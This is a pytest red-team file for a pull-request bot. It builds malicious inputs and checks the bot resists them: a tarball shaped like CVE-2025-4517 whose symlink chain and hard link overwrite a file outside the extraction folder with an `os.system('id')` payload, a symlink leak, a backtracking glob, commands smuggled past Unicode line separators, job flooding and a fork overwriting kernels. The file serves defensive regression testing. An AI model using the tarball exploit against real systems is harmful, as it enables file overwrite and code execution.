"""Red team: a malicious pull request (and the bytes around it) against the bot.

Each test plays one attack and asserts what a safe bot does. An attack that gets through today is marked
``xfail(strict=True)`` with what gets through and where; the others are regression guards for ground no other
test covers. Pure layers (tarball unpacking, config, discovery, the command grammar) are attacked directly;
one attack needs the real ``kernelevo serve`` (tests/bot/bot_harness.py).
"""

from __future__ import annotations

import io
import tarfile
from pathlib import Path

import pytest

# Python's tarfile ``data`` filter resolves link targets with os.path.realpath, which (before the fixes of
# CVE-2025-4517 / CVE-2025-4138, Python 3.9.23, 3.10.18, 3.11.13, 3.12.11, 3.13.4) stops resolving at PATH_MAX and
# answers a path that only *looks* inside the destination; workflows/untar.py does not rely on it (no link is
# ever written to disk), so the attacks below hold on every interpreter.

COMP = "d" * 247  # one directory name; sixteen of them nested exceed PATH_MAX
STEPS = "abcdefghijklmnop"


def _overlong_chain(tar: tarfile.TarFile, top: str) -> str:
    """Directories ``top/ddd.../ddd...`` (sixteen deep) reached through one-letter symlinks ``a/b/.../p``, and a
    link ``top/a/b/.../p/lll...`` to ``top``: its target, spelt through the letters, is short, but realpath's
    expansion is longer than PATH_MAX. Returns that link's path relative to ``top``."""
    path = top
    for step in STEPS:
        directory = tarfile.TarInfo(f"{path}/{COMP}")
        directory.type = tarfile.DIRTYPE
        tar.addfile(directory)
        link = tarfile.TarInfo(f"{path}/{step}")
        link.type, link.linkname = tarfile.SYMTYPE, COMP
        tar.addfile(link)
        path = f"{path}/{COMP}"
    back = "/".join(STEPS) + "/" + "l" * 254
    link = tarfile.TarInfo(f"{top}/{back}")
    link.type, link.linkname = tarfile.SYMTYPE, "../" * len(STEPS)
    tar.addfile(link)
    return back


def _write_outside_tarball(top: str, victim_from_dest: str, payload: bytes) -> bytes:
    """CVE-2025-4517's shape: a symlink out of the tree the filter cannot see, a hard link through it to the
    victim, then a regular member of the hard link's name, which overwrites the victim in place."""
    buffer = io.BytesIO()
    with tarfile.open(fileobj=buffer, mode="w:gz", format=tarfile.PAX_FORMAT) as tar:
        root = tarfile.TarInfo(top)
        root.type = tarfile.DIRTYPE
        tar.addfile(root)
        back = _overlong_chain(tar, top)
        escape = tarfile.TarInfo(f"{top}/escape")
        escape.type, escape.linkname = tarfile.SYMTYPE, f"{back}/../{victim_from_dest.rpartition('/')[0]}"
        tar.addfile(escape)
        hard = tarfile.TarInfo(f"{top}/innocent.py")
        hard.type, hard.linkname = tarfile.LNKTYPE, f"{top}/escape/{victim_from_dest.rpartition('/')[2]}"
        tar.addfile(hard)
        body = tarfile.TarInfo(f"{top}/innocent.py")
        body.size = len(payload)
        tar.addfile(body, io.BytesIO(payload))
    return buffer.getvalue()


def _victim(tmp_path: Path) -> Path:
    outside = tmp_path / "outside"
    outside.mkdir()
    victim = outside / "victim.py"
    victim.write_text("SECRET = 'the App key would live here'\n")
    return victim


def test_a_checkout_tarball_cannot_write_outside_its_folder(tmp_path):
    from bot.workspace import extract

    victim = _victim(tmp_path)
    # the checkout is unpacked into <tmp>/tree/<top>; the victim is <tmp>/outside/victim.py
    data = _write_outside_tarball("acme-models-c0ffee", "../outside/victim.py", b"import os; os.system('id')\n")
    try:
        extract(data, tmp_path / "tree")
    except (tarfile.TarError, ValueError, OSError):
        pass  # refusing the tarball is the safe answer
    assert victim.read_text() == "SECRET = 'the App key would live here'\n"


def test_a_job_tarball_cannot_write_outside_its_folder_on_the_worker(tmp_path):
    from workflows.repo_tarball import TarballError, unpack_repo

    victim = _victim(tmp_path)
    data = _write_outside_tarball("repo", "../outside/victim.py", b"PWNED\n")  # <tmp>/tree/repo/... -> <tmp>/outside
    try:
        unpack_repo(data, tmp_path / "tree", max_unpacked_bytes=1 << 30, max_files=10_000)
    except (TarballError, KeyError):
        pass
    assert victim.read_text() == "SECRET = 'the App key would live here'\n"


def test_a_git_symlink_in_the_pr_cannot_make_discovery_read_outside_the_checkout(tmp_path):
    from bot.workspace import extract
    from kernelevo.discovery import discover

    outside = tmp_path / "outside"
    outside.mkdir()
    (outside / "host_file.py").write_text("import kernelevo\n\n\n@kernelevo.optimize\ndef read_from_the_host(x):\n"
                                          "    return x\n")
    top = "acme-models-c0ffee"
    buffer = io.BytesIO()
    with tarfile.open(fileobj=buffer, mode="w:gz", format=tarfile.PAX_FORMAT) as tar:  # only dirs and symlinks
        root = tarfile.TarInfo(top)
        root.type = tarfile.DIRTYPE
        tar.addfile(root)
        back = _overlong_chain(tar, top)
        ops = tarfile.TarInfo(f"{top}/ops")
        ops.type = tarfile.DIRTYPE
        tar.addfile(ops)
        leak = tarfile.TarInfo(f"{top}/ops/leak.py")  # <tree>/<top>/ops/leak.py -> <tmp>/outside/host_file.py
        leak.type, leak.linkname = tarfile.SYMTYPE, f"../{back}/../../outside/host_file.py"
        tar.addfile(leak)
    try:
        checkout = extract(buffer.getvalue(), tmp_path / "tree")
    except (tarfile.TarError, ValueError, OSError):
        return  # refused: safe
    found = discover(checkout, ["**/*.py"], []).hashes()
    assert not [op for op in found if "read_from_the_host" in op], found
    leak = checkout / "ops" / "leak.py"
    assert not leak.exists() or leak.resolve().is_relative_to((tmp_path / "tree").resolve())


def test_a_glob_in_the_config_cannot_make_discovery_backtrack_for_minutes(tmp_path, glob_steps):
    from kernelevo.repo_config import RepoConfigError, load_repo_config

    text = 'paths:\n  exclude: ["' + "**/" * 10 + 'x.py"]\n'
    try:
        config = load_repo_config(text)
    except RepoConfigError:
        return  # refused when the config is read: safe
    from kernelevo.discovery import is_selected

    path = "a/" * 30 + "y.py"
    assert is_selected(path, config.paths.include, config.paths.exclude)  # y.py is not the excluded x.py
    globs = len(config.paths.include) + len(config.paths.exclude)
    assert 0 < glob_steps[0] <= 2 * globs * (len(path) + 1), glob_steps  # linear in the path: no backtracking


def test_a_command_hidden_in_a_code_fence_by_a_unicode_line_separator_is_not_run():
    from bot import commands

    sha = "f" * 40
    pasted = f"build log:\n```\nstep 1 ok\u2028```\n/kernelevo approve {sha}\n```\nthanks\n"
    assert commands.parse_comment(pasted) == []


@pytest.mark.parametrize("separator", ["\u2028", "\u2029", "\x85", "\x0b", "\x0c", "\x1c", "\x1d", "\x1e"])
def test_a_quoted_line_cannot_carry_a_command_past_a_non_markdown_line_break(separator):
    from bot import commands

    quoted = f"> could someone have a look?{separator}/kernelevo approve {'e' * 40}\n\nI agree with this.\n"
    assert commands.parse_comment(quoted) == []


def test_a_real_newline_still_separates_commands_from_quotes():
    """Guard for the fix above: only \\n and \\r end a line, so an ordinary command after a quote still runs."""
    from bot import commands

    parsed = commands.parse_comment("> quoted text\r\n/kernelevo help\n")
    assert len(parsed) == 1 and isinstance(parsed[0], commands.Command) and parsed[0].name == "help"


# -- the real bot: unbounded jobs from one comment ------------------------------------------------------------


def _many_ops(count: int) -> str:
    ops = "".join(f"\n\n@kernelevo.optimize(inputs=lambda device: [(1.0,)])\ndef op_{i}(x):\n    return x * {i}.0\n"
                  for i in range(count))
    return "import kernelevo\n" + ops


def test_one_optimize_comment_queues_a_bounded_number_of_jobs(scene, fake):
    from bot_harness import REPO, wait_for

    from bot import commands

    count = 3 * commands.MAX_OPS
    fake.push(REPO, "many", {"ops/many.py": _many_ops(count)}, "many ops")
    number = fake.open_pull(REPO, "many", "main", "alice")["number"]
    scene.send("issue_comment", scene.comment(number, "alice", "/kernelevo optimize"))
    wait_for(lambda: "Queued" in "".join(c["body"] for c in scene.bot_comments(number))
             or "Not started" in "".join(c["body"] for c in scene.bot_comments(number)), "the request's answer")
    jobs = scene.jobs.list()
    assert len(jobs) <= commands.MAX_OPS, f"{len(jobs)} jobs from one comment"
    status = "".join(c["body"] for c in scene.bot_comments(number))
    assert f"Not queued: {count - commands.MAX_OPS} more op(s)" in status
    assert "/kernelevo optimize ops/many.py::op_" in status


TRUSTED_KERNEL = "# the maintainers' verified kernel for ops/gelu.py::fast_gelu\nclass ModelNew:\n    pass\n"


def test_a_fork_cannot_make_the_follow_up_overwrite_another_ops_kernel_folder(scene, fake):
    import json

    from bot_harness import OP_GELU, REPO, finish_like_a_gpu_worker, gpu_summary, wait_for

    manifest = json.dumps({"format": 1, "op_id": "ops/gelu.py::fast_gelu", "source_hash": "sha256:00",
                           "kind": "function", "envelope": {}, "results": {}})
    fake.push(REPO, "main", {"ops/gelu.py": OP_GELU, "kernels/fast_gelu/manifest.json": manifest,
                             "kernels/fast_gelu/kernel.py": TRUSTED_KERNEL}, "a verified kernel")
    fake.fork(REPO, "mallory/models")
    fake.push("mallory/models", "speedup", {"evil/fast.py": OP_GELU.replace("x * 0.5", "x * 0.25"),
                                            "kernels/fast_gelu/manifest.json": None}, "my op")
    number = fake.open_pull(REPO, "speedup", "main", "mallory", head_repo="mallory/models")["number"]
    scene.send("issue_comment", scene.comment(number, "mallory", "/kernelevo optimize evil/fast.py::fast_gelu"))
    scene.wait_status(number, "comes from a fork")
    scene.approve(number, "maya")  # a maintainer reviewed the diff: one new op file, one deleted manifest
    (job,) = scene.wait_jobs(number, 1)
    finish_like_a_gpu_worker(scene.jobs, job.id, gpu_summary(job.spec.op_id))
    scene.wait_reported(job.id)
    pulls = wait_for(lambda: scene.kernel_pulls() or None, "the follow-up PR (or none)", timeout=60)
    for pull in pulls:
        files = fake.files_at(REPO, pull["head"]["ref"])
        assert files.get("kernels/fast_gelu/kernel.py") == TRUSTED_KERNEL, pull["head"]["ref"]
        assert json.loads(files["kernels/fast_gelu/manifest.json"])["op_id"] == "ops/gelu.py::fast_gelu"
